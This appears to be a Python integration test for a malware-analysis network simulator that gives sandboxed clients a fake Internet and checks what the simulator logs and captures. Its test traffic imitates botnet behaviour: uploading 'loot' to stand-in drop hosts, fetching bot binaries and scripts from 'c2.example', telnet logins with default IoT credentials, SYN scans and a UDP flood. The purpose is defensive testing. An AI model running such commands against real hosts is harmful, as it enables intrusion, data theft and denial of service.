"""Ordinary clients, unmodified, in a network of their own whose other end is the simulated Internet:
`netsim.py [COMMAND…]`, where the command becomes its process; without one it is `netsim` of the program in `KOMAINU`.

Needs root: it makes a network namespace with a TAP device. What comes out of the TAP goes to the process as QEMU would hand
it over, and back. At the end the events, the packets (read by tshark) and the contents are compared with what was done.
"""

import contextlib
import fcntl
import hashlib
import json
import os
import pathlib
import select
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

COMMAND = sys.argv[1:] or [os.environ.get("KOMAINU", "target/debug/komainu"), "netsim"]
NAMESPACE = f"komainu-netsim-{os.getpid()}"
TAP = "kmntap0"
WAIT_S = 30
TUNSETIFF, IFF_TAP, IFF_NO_PI = 0x400454CA, 0x0002, 0x1000
CLOCK = 1_704_067_200
failed = []


def check(what, holds, seen=""):
    print(f"check {what} ... " + ("ok" if holds else f"FAILED: {seen!r}"), flush=True)
    if not holds:
        failed.append(what)


def run(*command, wait_s=WAIT_S, within=True, text=None):
    """What a program in the namespace says, and its status."""
    command = ["ip", "netns", "exec", NAMESPACE, *command] if within else list(command)
    try:
        done = subprocess.run(command, input=text, capture_output=True, timeout=wait_s, text=True, errors="replace")
    except subprocess.TimeoutExpired as late:
        return f"took longer than {wait_s} s: {late.stdout}", -1
    return done.stdout + done.stderr, done.returncode


def python(program):
    """Runs a few lines in the namespace."""
    return run(sys.executable, "-c", program)


class Netsim:
    """The process and the link to it."""

    def __init__(self, folder, framing):
        self.framing = framing
        kind = socket.SOCK_DGRAM if framing == "datagram" else socket.SOCK_STREAM
        control, theirs = socket.socketpair()
        self.link, frames = socket.socketpair(socket.AF_UNIX, kind)
        outputs = [os.pipe() for _ in range(3)]
        self.process = subprocess.Popen(COMMAND, stdin=theirs, stdout=subprocess.DEVNULL, env={})
        settings = json.dumps({
            "seed": 7, "clock_unix_s": CLOCK, "framing": framing, "latency_ms": [1, 5],
            "logins": {"accept_after": 2, "pairs": [["root", "let-me-in"]]},
            "ports": {"open_first": 16, "open_percent": 10, "answered_max": 100},
            "names": {"generated_later": {"refused": 4}},
        }).encode()
        socket.send_fds(control, [struct.pack("<I", len(settings))], [frames.fileno(), *(end for _, end in outputs)])
        control.sendall(settings)
        theirs.close()
        frames.close()
        for _, end in outputs:
            os.close(end)
        self.control = control
        control.settimeout(WAIT_S)
        length = struct.unpack("<I", self.exactly(4))[0]
        self.ca = folder / "ca.pem"
        self.ca.write_text(json.loads(self.exactly(length))["certificate_pem"])
        self.collected = [b"", b"", b""]
        self.readers = [threading.Thread(target=self.collect, args=(n, end)) for n, (end, _) in enumerate(outputs)]
        for reader in self.readers:
            reader.start()

    def exactly(self, length):
        got = b""
        while len(got) < length:
            piece = self.control.recv(length - len(got))
            if not piece:
                raise SystemExit(f"the process ended: {self.process.wait(WAIT_S)}")
            got += piece
        return got

    def collect(self, number, end):
        with open(end, "rb") as pipe:
            self.collected[number] = pipe.read()

    def end(self):
        self.control.shutdown(socket.SHUT_WR)
        status = self.process.wait(WAIT_S)
        for reader in self.readers:
            reader.join(WAIT_S)
        return status


def bridge(tap, netsim, ended):
    """Carries frames between the TAP and the process."""
    link, begun = netsim.link, b""
    while not ended.is_set():
        ready, _, _ = select.select([tap, link], [], [], 0.2)
        if tap in ready:
            frame = os.read(tap, 2048)
            link.send(frame if netsim.framing == "datagram" else struct.pack(">I", len(frame)) + frame)
        if link in ready:
            begun += link.recv(65536)
            if netsim.framing == "datagram":
                os.write(tap, begun)
                begun = b""
            while len(begun) >= 4 and len(begun) >= 4 + (length := struct.unpack(">I", begun[:4])[0]):
                os.write(tap, begun[4:4 + length])
                begun = begun[4 + length:]


@contextlib.contextmanager
def namespace(netsim, folder):
    tap = os.open("/dev/net/tun", os.O_RDWR | os.O_NONBLOCK)
    fcntl.ioctl(tap, TUNSETIFF, struct.pack("16sH", TAP.encode(), IFF_TAP | IFF_NO_PI))
    etc = pathlib.Path("/etc/netns") / NAMESPACE
    ended = threading.Event()
    carrier = threading.Thread(target=bridge, args=(tap, netsim, ended))
    try:
        run("ip", "netns", "add", NAMESPACE, within=False)
        etc.mkdir(parents=True)
        (etc / "resolv.conf").write_text("nameserver 192.168.1.1\noptions timeout:3\n")
        run("ip", "link", "set", TAP, "netns", NAMESPACE, within=False)
        run("ip", "link", "set", "lo", "up")
        run("ip", "link", "set", TAP, "up")
        carrier.start()
        yield
    finally:
        ended.set()
        if carrier.is_alive():
            carrier.join(WAIT_S)
        run("ip", "netns", "delete", NAMESPACE, within=False)
        for file in etc.glob("*"):
            file.unlink()
        etc.rmdir()
        os.close(tap)


def address(folder):
    script = folder / "lease.sh"
    script.write_text(
        "#!/bin/sh\n[ \"$1\" = bound ] || exit 0\n"
        "ip addr add $ip/24 dev $interface\nip route add default via $router\necho lease $ip $router $dns $lease $domain\n")
    script.chmod(0o755)
    said, _ = run("busybox", "udhcpc", "-i", TAP, "-n", "-q", "-f", "-s", str(script), "-x", "hostname:probe-host")
    check("udhcpc gets an address", "lease 192.168.1." in said and "192.168.1.1 192.168.1.1 86400 lan" in said, said)
    until = time.monotonic() + WAIT_S
    while time.monotonic() < until:
        said, _ = run("ip", "-6", "addr", "show", "dev", TAP, "scope", "global", "-tentative")
        if "2001:db8:1:1:" in said:
            break
        select.select([], [], [], 0.2)
    check("the kernel makes itself an IPv6 address", "2001:db8:1:1:" in said, said)
    said, _ = run("ip", "-6", "route")
    check("and has a route", "default via fe80::1" in said, said)


def names():
    said, _ = run("dig", "+short", "c2.example")
    v4 = said.strip()
    check("dig: a name has an address", v4.startswith(("198.18.", "198.19.")), said)
    said, _ = run("dig", "+short", "c2.example", "@203.0.113.53")
    check("dig: the same from any resolver", said.strip() == v4, said)
    said, _ = run("dig", "+tcp", "+short", "c2.example", "@8.8.8.8")
    check("dig: the same by TCP", said.strip() == v4, said)
    said, _ = run("dig", "+short", "AAAA", "c2.example")
    check("dig: an IPv6 address", said.startswith("2001:2:"), said)
    said, _ = run("dig", "+short", "-x", v4)
    check("dig: and back", said.strip() == "c2.example.", said)
    said, _ = run("dig", "MX", "c2.example")
    check("dig: a mail server, without warnings", "mail.c2.example" in said and "WARNING" not in said, said)
    said, _ = run("dig", "xkqjzv1wpt.com")
    check("dig: a generated name is not there", "NXDOMAIN" in said, said)
    for number in range(6):
        said, _ = run("nslookup", f"zxqwv{number}kjhg.info")
    check("nslookup: a later one is", "198.1" in said, said)
    said, _ = run("dig", "+short", "dns.google")
    check("dig: known resolvers have their addresses", said.strip() == "8.8.8.8", said)
    return v4


def pings():
    for target in ["192.168.1.1", "203.0.113.9", "c2.example", "2001:db8:77::9"]:
        said, status = run("ping", "-c", "2", "-i", "0.2", target)
        check(f"ping {target}", status == 0, said)
    said, _ = run("traceroute", "-n", "-q", "1", "-w", "2", "203.0.113.9")
    lines = said.splitlines()
    holds = len(lines) > 6 and "192.168.1.1" in lines[1] and "203.0.113.9" in lines[-1] and "*" not in said
    check("traceroute goes through routers and arrives", holds, said)


def web(netsim, folder):
    said, _ = run("curl", "-sS", "-m", "10", "-w", "%{http_code}", "http://connectivitycheck.gstatic.com/generate_204")
    check("curl: there is an Internet", said == "204", said)
    said, _ = run("curl", "-sS", "-m", "10", "http://api.ipify.org/")
    check("curl: my address", said.startswith("203.0.113."), said)
    said, _ = run("curl", "-sS", "-m", "10", "http://198.51.100.20:8081/bins/bot.arm7")
    check("curl: a program is a script of ours, on any port", "asked for: arm" in said, said)
    said, status = run("curl", "-sS", "-m", "10", "https://c2.example/")
    check("curl: who does not trust the authority is not content", status == 60, said)
    said, _ = run("curl", "-sS", "-m", "10", "-k", "https://c2.example/")
    check("curl -k: a page by HTTPS", "It works" in said, said)
    said, _ = run("curl", "-sS", "-m", "10", "--cacert", str(netsim.ca), "https://c2.example:8443/index.html")
    check("curl with the authority: on another port", "It works" in said, said)
    said, _ = run("curl", "-sS", "-m", "10", "--cacert", str(netsim.ca), "https://203.0.113.99/")
    check("curl with the authority: an address", "It works" in said, said)
    upload = folder / "loot.bin"
    upload.write_bytes(bytes(range(256)) * 800)
    said, _ = run("curl", "-sS", "-m", "20", "-T", str(upload), "-w", "%{http_code}", "http://drop.example/up/loot.bin")
    check("curl: an upload", said == "201", said)
    said, _ = run("curl", "-sS", "-m", "20", "-H", "Transfer-Encoding: chunked", "--data-binary", f"@{upload}",
                  "-w", "%{http_code}", "http://drop.example/post")
    check("curl: an upload in chunks", said == "200", said)
    said, _ = run("curl", "-sS", "-m", "10", "-g", "http://[2001:db8:99::7]/ncsi.txt")
    check("curl: by IPv6", said == "Microsoft NCSI", said)
    said, _ = run("curl", "-sS", "-m", "10", "-x", "socks5h://203.0.113.80:1080", "http://behind.example/generate_204",
                  "-w", "%{http_code}")
    check("curl: through SOCKS", said == "204", said)
    said, _ = run("wget", "-q", "-T", "10", "-O", "-", "http://c2.example/x.sh")
    check("wget: a script", said.startswith("#!/bin/sh"), said)
    said, _ = run("openssl", "s_client", "-connect", "203.0.113.44:9443", "-servername", "deep.example", "-CAfile",
                  str(netsim.ca), "-verify_return_error", text="Q\n")
    check("openssl s_client: verified on any port", "Verify return code: 0 (ok)" in said and "deep.example" in said, said)
    return hashlib.sha256(upload.read_bytes()).hexdigest()


def dialogues(folder):
    said, _ = python(
        "import socket\ns = socket.create_connection(('198.51.100.23', 23), 10)\ns.settimeout(10)\nseen = b''\n"
        "def until(end):\n    global seen\n    while not seen.endswith(end): seen += s.recv(4096)\n"
        "for user, word in [('admin', 'admin'), ('root', 'xc3511')]:\n"
        "    until(b'login: '); s.sendall(user.encode() + b'\\r\\n'); until(b'Password: '); s.sendall(word.encode() + b'\\r\\n')\n"
        "until(b'# '); s.sendall(b'/bin/busybox PROBE\\r\\n'); until(b'not found\\r\\n# ')\nprint(seen)")
    check("telnet: the second try is let in and looks around", "PROBE: applet not found" in said, said)
    said, _ = run("telnet", "198.51.100.24", "2323", text="", wait_s=10)
    check("telnet: the program sees a connection", "Connected to 198.51.100.24" in said, said)
    said, _ = python(
        "import ftplib, io\nf = ftplib.FTP(timeout=20)\nf.connect('198.51.100.21')\nf.login('root', 'let-me-in')\n"
        "print(f.storbinary('STOR loot.txt', io.BytesIO(b'stolen' * 1000)))\nprint(f.nlst())\n"
        "out = []\nf.retrbinary('RETR a.mips', out.append)\nprint(b''.join(out))\nf.quit()")
    check("ftplib: stores, lists and fetches", "226 Transfer complete" in said and "asked for: mips" in said, said)
    said, _ = python(
        "import smtplib\ns = smtplib.SMTP('mail.example', 25, timeout=20)\n"
        "print(s.sendmail('a@b.example', ['c@d.example'], 'Subject: x\\r\\n\\r\\nhello\\r\\n.dots\\r\\n'))\ns.quit()")
    check("smtplib: a mail is taken", said.strip() == "{}", said)
    said, status = run("ssh", "-o", "StrictHostKeyChecking=no", "-o", "BatchMode=yes", "-o", "ConnectTimeout=10",
                       "root@198.51.100.22", "true")
    check("ssh: is let go before the keys", status == 255 and ("closed" in said.lower() or "reset" in said.lower()), said)
    said, _ = python(
        "import socket, struct, time\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(10)\n"
        "s.sendto(b'\\x23' + bytes(47), ('pool.ntp.org', 123))\na = s.recv(100)\n"
        "print(struct.unpack('>I', a[40:44])[0] - 2208988800)")
    check("SNTP: the time of the settings", said.strip().isdigit() and 0 <= int(said) - CLOCK < 600, said)
    said, _ = python(
        "import socket\ns = socket.create_connection(('203.0.113.7', 4444), 10)\ns.settimeout(20)\n"
        "s.sendall(b'LAB-HELLO arm\\n')\nprint(s.recv(100), s.recv(100))\ns.sendall(b'PONG\\n')")
    check("a bot of ours is played with", "WELCOME" in said and "PING" in said, said)


def scans():
    said, _ = run("nmap", "-n", "-Pn", "-sS", "-p", "23", "--max-retries", "0", "--host-timeout", "20s", "-oG", "-",
                  "100.66.0.0/22", wait_s=90)
    opened = said.count("23/open/")
    check("nmap: of many addresses some are open", 16 <= opened <= 60, said[-500:])
    said, _ = run("nmap", "-n", "-Pn", "-sV", "-p", "21,22,23,25,80", "203.0.113.150", wait_s=120)
    check("nmap -sV: knows the services", "vsftpd" in said and "Dropbear" in said and "Postfix" in said, said)
    said, _ = python(
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for n in range(20000): s.sendto(b'x' * 512, ('203.0.113.200', 8000))\nprint('sent')")
    check("a flood is sent", said.strip() == "sent", said)


def compare(netsim, folder, loot):
    events = [json.loads(line) for line in netsim.collected[0].splitlines()]
    by_kind = {}
    for event in events:
        by_kind.setdefault(event["event"], []).append(event)
    of = lambda kind: by_kind.get(kind, [])
    check("events: DHCP with the host's name", any(e.get("host_name") == "probe-host" for e in of("dhcp")), of("dhcp"))
    check("events: connects have their names", any(e.get("name") == "c2.example" for e in of("connect")))
    check("events: generated names are noticed", any(e["names"] >= 4 for e in of("generated_names")), of("generated_names"))
    tls = of("tls")
    check("events: TLS that was taken and that was not", {e["completed"] for e in tls} == {True, False}, tls)
    check("events: JA3", all(len(e.get("ja3", "")) == 32 for e in tls), tls)
    check("events: the client of SSH", any(e["identification"].startswith("SSH-2.0-OpenSSH") and e.get("hassh") for e in of("ssh")))
    check("events: logins", {e["service"] for e in of("login")} >= {"telnet", "ftp"}, of("login"))
    check("events: lines", any(e["line"] == "/bin/busybox PROBE" for e in of("command")))
    uploads = [e for e in of("content") if e["sha256"] == loot]
    check("events: uploads by HTTP", len(uploads) == 2, uploads)
    check("events: an upload by FTP", any(e.get("name") == "loot.txt" and e["bytes"] == 6000 for e in of("content")))
    check("events: a proxy was asked", any(e["target"] == "behind.example:80" for e in of("proxied")), of("proxied"))
    check("events: the player", any(e["script"] == "text-line" for e in of("played")))
    scan = [e for e in of("targets") if e["port"] == 23]
    check("events: how a scan's targets were chosen", scan and scan[0]["addresses"] >= 1000, scan)
    udp = sum(e["packets"] for e in of("counted") if e["kind"] == "udp" and e.get("port") == 8000)
    told = sum(1 for e in of("datagram") if e["to"] == "203.0.113.200:8000")
    check("events: a flood is counted", told == 16 and udp > 0, (told, udp))
    pcap = folder / "packets.pcap"
    pcap.write_bytes(netsim.collected[1])
    # What the link carried of the flood was told or counted: nothing is lost silently.
    for display, least in [("dns", 10), ("tcp.flags.syn==1", 100), ("http.request", 5), ("udp.port==8000", told + udp)]:
        said, status = run("tshark", "-r", str(pcap), "-Y", display, "-T", "fields", "-e", "frame.number", within=False, wait_s=120)
        count = sum(line.strip().isdigit() for line in said.splitlines())
        check(f"tshark: {display}", status == 0 and count >= least, (count, least, said[-200:]))
    said, _ = run("tshark", "-r", str(pcap), "-Y", "_ws.malformed", within=False, wait_s=120)
    malformed = [line for line in said.splitlines() if "→" in line]
    check("tshark: nothing is malformed", not malformed, malformed[:3])
    contents, hashes = netsim.collected[2], []
    while contents:
        length = struct.unpack("<I", contents[32:36])[0]
        body, contents = contents[36:36 + length], contents[36 + length:]
        hashes.append(hashlib.sha256(body).hexdigest())
    check("contents: the upload is there, once", hashes.count(loot) == 1, hashes)
    lost = {e["what"]: e["count"] for e in of("lost")}
    print("lost:", lost)


def main():
    with tempfile.TemporaryDirectory() as name:
        folder = pathlib.Path(name)
        for framing in ["datagram", "stream"]:
            netsim = Netsim(folder, framing)
            with namespace(netsim, folder):
                address(folder)
                names()
                if framing == "datagram":
                    pings()
                    loot = web(netsim, folder)
                    dialogues(folder)
                    scans()
                else:
                    said, _ = run("curl", "-sS", "-m", "10", "http://c2.example/ncsi.txt")
                    check("curl over the other kind of link", said == "Microsoft NCSI", said)
            status = netsim.end()
            check(f"the process ends by itself ({framing})", status == 0, status)
            if framing == "datagram":
                compare(netsim, folder, loot)
    print(f"{len(failed)} failed" if failed else "everything is as it should be")
    return 1 if failed else 0


sys.exit(main())
